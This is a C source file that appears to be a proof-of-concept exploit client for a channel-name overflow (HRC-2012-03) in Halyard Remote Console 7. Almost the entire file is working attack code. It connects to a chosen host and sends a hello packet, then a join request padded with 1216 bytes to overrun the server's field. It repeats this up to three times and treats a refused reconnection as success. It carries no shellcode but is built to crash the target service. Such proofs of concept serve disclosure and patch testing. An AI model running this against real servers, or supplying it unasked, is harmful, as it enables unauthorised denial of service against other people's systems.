/*
 * Client for the channel-name flaw of Halyard Remote Console 7, HRC-2012-03.
 *
 * Sends one join request whose channel name is longer than the server's field,
 * and reports whether the server answers afterwards. It carries no code, and a
 * server that has been updated refuses the request and stays up.
 *
 * Build: cc -Wall -o poc poc.c      Use: ./poc HOST [PORT]
 */
#include <errno.h>
#include <netdb.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define KIND_HELLO 0x01
#define KIND_JOIN 0x07
#define HEADER_BYTES 8
#define PACKET_BYTES 4096

struct packet {
    unsigned char bytes[PACKET_BYTES];
    size_t used;
};

static void put(struct packet *packet, uint32_t value, int width)
{
    while (width > 0 && packet->used < PACKET_BYTES) {
        width -= 1;
        packet->bytes[packet->used] = (value >> (8 * width)) & 0xff;
        packet->used += 1;
    }
}

static void put_text(struct packet *packet, const char *text)
{
    size_t length = strlen(text);

    put(packet, (uint32_t)length, 1);
    for (size_t i = 0; i < length; i++) {
        put(packet, (unsigned char)text[i], 1);
    }
}

static void begin(struct packet *packet, int kind)
{
    packet->used = 0;
    put(packet, 0x48524337, 4);
    put(packet, kind, 2);
    put(packet, 0, 2);
}

static void finish(struct packet *packet)
{
    size_t body = packet->used - HEADER_BYTES;

    packet->bytes[6] = (body >> 8) & 0xff;
    packet->bytes[7] = body & 0xff;
}

static void say_hello(struct packet *packet)
{
    begin(packet, KIND_HELLO);
    put_text(packet, "frontdesk");
    put_text(packet, "HalyardView/7.1");
    put(packet, 0x5d2e91c4, 4);
    put(packet, 0x0409, 2);
    put(packet, 1280, 2);
    finish(packet);
}

static void ask_to_join(struct packet *packet)
{
    static const size_t name_bytes = 1216;

    begin(packet, KIND_JOIN);
    put(packet, 11, 2);
    put(packet, name_bytes, 2);
    put_text(packet, "sheetbend");
    while (packet->used < HEADER_BYTES + 4 + name_bytes) {
        put(packet, 0x41, 1);
    }
    finish(packet);
}

static void pause_for(long milliseconds)
{
    struct timespec span = { milliseconds / 1000, milliseconds % 1000 * 1000000 };

    nanosleep(&span, NULL);
}

static int reach(const char *host, const char *port)
{
    struct addrinfo hints = { .ai_family = AF_INET, .ai_socktype = SOCK_STREAM };
    struct sockaddr_in own = { .sin_family = AF_INET, .sin_port = htons(40117) };
    struct addrinfo *found = NULL;

    if (getaddrinfo(host, port, &hints, &found) != 0 || found == NULL) {
        return -1;
    }
    int fd = socket(found->ai_family, found->ai_socktype, 0);
    if (fd >= 0) {
        /* The source port is a wish; any other one does as well. */
        (void)!bind(fd, (struct sockaddr *)&own, sizeof own);
        if (connect(fd, found->ai_addr, found->ai_addrlen) != 0) {
            close(fd);
            fd = -1;
        }
    }
    freeaddrinfo(found);
    return fd;
}

int main(int argc, char **argv)
{
    struct packet packet;
    unsigned char answer[256];

    if (argc < 2) {
        fprintf(stderr, "use: %s HOST [PORT]\n", argv[0]);
        return 2;
    }
    for (int attempt = 0; attempt < 3; attempt++) {
        int fd = reach(argv[1], argc > 2 ? argv[2] : "7420");
        if (fd < 0) {
            printf("no connection: %s\n", strerror(errno));
            return attempt == 0 ? 1 : 0;
        }
        say_hello(&packet);
        ssize_t sent = send(fd, packet.bytes, packet.used, MSG_NOSIGNAL);
        pause_for(250);
        ask_to_join(&packet);
        sent += send(fd, packet.bytes, packet.used, MSG_NOSIGNAL);
        ssize_t got = recv(fd, answer, sizeof answer, 0);
        printf("attempt %d: sent %zd bytes, got %zd\n", attempt, sent, got);
        close(fd);
    }
    return 0;
}
